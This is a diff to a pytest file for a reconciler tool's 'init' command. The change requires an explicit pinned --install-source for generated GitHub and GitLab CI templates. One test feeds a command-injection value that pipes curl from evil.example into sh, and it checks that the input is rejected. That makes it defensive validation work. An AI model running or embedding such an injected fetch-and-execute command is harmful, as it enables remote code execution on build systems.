@@ -27,6 +27,10 @@ const fs = require("fs");
 })();
 """
 
+# What these tests tell init to pin: this checkout is an editable install, which CI cannot
+# reach, so init would ask for it (test_init_asks_where_ci_installs_from).
+SOURCE = "enos-reconciler @ git+https://git.example.com/platform/reconciler@" + "0" * 40
+
 
 @pytest.fixture(scope="session")
 def actionlint() -> Path:
@@ -51,7 +55,7 @@ def lint(script: Path, files: list[Path]) -> list[dict[str, object]]:
 
 def test_init_into_an_empty_dir(tmp_path: Path) -> None:
     target = tmp_path / "deletions"
-    res = run_cli(["init", str(target), "--max-cells", "5000"], tmp_path)
+    res = run_cli(["init", "--install-source", SOURCE, str(target), "--max-cells", "5000"], tmp_path)
     assert res.code == 0, res.all
     workflows = sorted((target / ".github" / "workflows").glob("*.yml"))
     assert [w.name for w in workflows] == ["reconcile-apply.yml", "reconcile-plan.yml"]
@@ -69,13 +73,13 @@ def test_init_into_an_empty_dir(tmp_path: Path) -> None:
     assert plan.code == 2 and "Plan: 2 cells to clear in 1 request" in plan.out
 
 
-def test_templates_install_our_distribution_pinned() -> None:
-    files = planned_files()
+def test_templates_install_exactly_the_source_init_was_given() -> None:
+    files = planned_files(install=SOURCE)
     ci = [files[".github/workflows/reconcile-apply.yml"], files[".github/workflows/reconcile-plan.yml"]]
     ci.append(files[".gitlab-ci.yml"])
     for text in ci:
-        assert f"enos-reconciler=={__version__}" in text
-        assert f"git+https://<your-git-host>/<org>/reconciler@v{__version__}" in text
+        assert f'"{SOURCE}"' in text
+        assert "<your-git-host>" not in text  # no tag that does not exist
         assert '"reconciler==' not in text  # someone else's package on the index
 
 
@@ -181,15 +185,15 @@ def test_init_refuses_to_overwrite_unless_forced(tmp_path: Path) -> None:
     (tmp_path / "manifests").mkdir()
     (tmp_path / "manifests" / "example.yaml").write_text("mine")
     (tmp_path / "applied-ledger.jsonl").write_text("precious\n")
-    res = run_cli(["init", str(tmp_path)], tmp_path)
+    res = run_cli(["init", "--install-source", SOURCE, str(tmp_path)], tmp_path)
     assert res.code == 1 and "manifests/example.yaml" in res.err and "nothing was written" in res.err
     assert not (tmp_path / ".github").exists()
-    res = run_cli(["init", str(tmp_path), "--force"], tmp_path)
+    res = run_cli(["init", "--install-source", SOURCE, str(tmp_path), "--force"], tmp_path)
     assert res.code == 0
     assert (tmp_path / "manifests" / "example.yaml").read_text() != "mine"
     assert (
         "nothing was written; --force overwrites them, --workflows-only rewrites the CI files alone"
-        in run_cli(["init", str(tmp_path)], tmp_path).err
+        in run_cli(["init", "--install-source", SOURCE, str(tmp_path)], tmp_path).err
     )
     assert (tmp_path / "applied-ledger.jsonl").read_text() == "precious\n"  # never truncated
     assert "kept" in res.out and "wrote " + str(tmp_path / "applied-ledger.jsonl") not in res.out
@@ -197,7 +201,7 @@ def test_init_refuses_to_overwrite_unless_forced(tmp_path: Path) -> None:
 
 def test_an_existing_ledger_alone_is_kept_without_force(tmp_path: Path) -> None:
     (tmp_path / "applied-ledger.jsonl").write_text("precious\n")
-    res = run_cli(["init", str(tmp_path)], tmp_path)
+    res = run_cli(["init", "--install-source", SOURCE, str(tmp_path)], tmp_path)
     assert res.code == 0, res.all
     assert (tmp_path / "applied-ledger.jsonl").read_text() == "precious\n"
     assert (tmp_path / "manifests" / "example.yaml").exists()
@@ -220,7 +224,7 @@ def test_init_writes_the_repositorys_real_default_branch(tmp_path: Path, actionl
     git_in(tmp_path, "clone", "-q", str(origin), "work")
     work = tmp_path / "work"
     git_in(work, "symbolic-ref", "refs/remotes/origin/HEAD", "refs/remotes/origin/master")
-    res = run_cli(["init", str(work)], tmp_path)
+    res = run_cli(["init", "--install-source", SOURCE, str(work)], tmp_path)
     assert res.code == 0, res.all
     assert "Default branch: master" in res.out
     assert "branch: master" in (work / "reconcile.yaml").read_text()
@@ -229,18 +233,21 @@ def test_init_writes_the_repositorys_real_default_branch(tmp_path: Path, actionl
     assert "deployment branches to master" in res.out and "to main" not in res.out
     assert lint(actionlint, sorted((work / ".github" / "workflows").glob("*.yml"))) == []
     other = tmp_path / "other"
-    assert run_cli(["init", str(other), "--branch", "trunk"], tmp_path).code == 0
+    assert run_cli(["init", "--install-source", SOURCE, str(other), "--branch", "trunk"], tmp_path).code == 0
     assert "branch: trunk" in (other / "reconcile.yaml").read_text()
 
 
 def test_force_keeps_a_reviewed_config_and_workflows_only_refreshes_ci(tmp_path: Path) -> None:
-    assert run_cli(["init", str(tmp_path), "--max-cells", "5000"], tmp_path).code == 0
+    assert (
+        run_cli(["init", "--install-source", SOURCE, str(tmp_path), "--max-cells", "5000"], tmp_path).code
+        == 0
+    )
     config = (tmp_path / "reconcile.yaml").read_text().replace("maxCells: 5000", "maxCells: 123")
     (tmp_path / "reconcile.yaml").write_text(config)
     workflow = tmp_path / ".github/workflows/reconcile-apply.yml"
     workflow.write_text("old template")
     (tmp_path / "manifests/example.yaml").write_text("mine")
-    res = run_cli(["init", str(tmp_path), "--workflows-only"], tmp_path)
+    res = run_cli(["init", "--install-source", SOURCE, str(tmp_path), "--workflows-only"], tmp_path)
     assert res.code == 0, res.all
     assert workflow.read_text() != "old template"
     assert (tmp_path / "manifests/example.yaml").read_text() == "mine"  # only the CI files
@@ -252,7 +259,31 @@ def test_force_keeps_a_reviewed_config_and_workflows_only_refreshes_ci(tmp_path:
             ".gitlab-ci.yml",
         )
     )
-    res = run_cli(["init", str(tmp_path), "--force"], tmp_path)
+    res = run_cli(["init", "--install-source", SOURCE, str(tmp_path), "--force"], tmp_path)
     assert res.code == 0
     assert (tmp_path / "reconcile.yaml").read_text() == config  # reviewed: never overwritten
     assert "kept  " + str(tmp_path / "reconcile.yaml") in res.out
+
+
+def test_init_asks_where_ci_installs_from_and_writes_nothing(tmp_path: Path) -> None:
+    """An editable checkout cannot be installed by CI: init asks, instead of pinning a name
+    nobody may have published (or anyone may claim)."""
+    target = tmp_path / "repo"
+    res = run_cli(["init", str(target)], tmp_path)
+    assert res.code == 1 and "--install-source" in res.err and "CI cannot install" in res.err
+    assert not target.exists()
+
+
+def test_init_pins_the_source_in_both_ci_systems(tmp_path: Path) -> None:
+    res = run_cli(["init", "--install-source", SOURCE, str(tmp_path / "r")], tmp_path)
+    assert res.code == 0, res.all
+    for rel in (
+        ".github/workflows/reconcile-plan.yml",
+        ".github/workflows/reconcile-apply.yml",
+        ".gitlab-ci.yml",
+    ):
+        text = (tmp_path / "r" / rel).read_text()
+        assert SOURCE in text and f"enos-reconciler=={__version__}" not in text
+    assert f"CI installs exactly {SOURCE} (as given with --install-source)" in res.out
+    bad = run_cli(["init", "--install-source", 'x" && curl evil.example | sh', str(tmp_path / "s")], tmp_path)
+    assert bad.code == 1 and "one pip requirement" in bad.err and not (tmp_path / "s").exists()
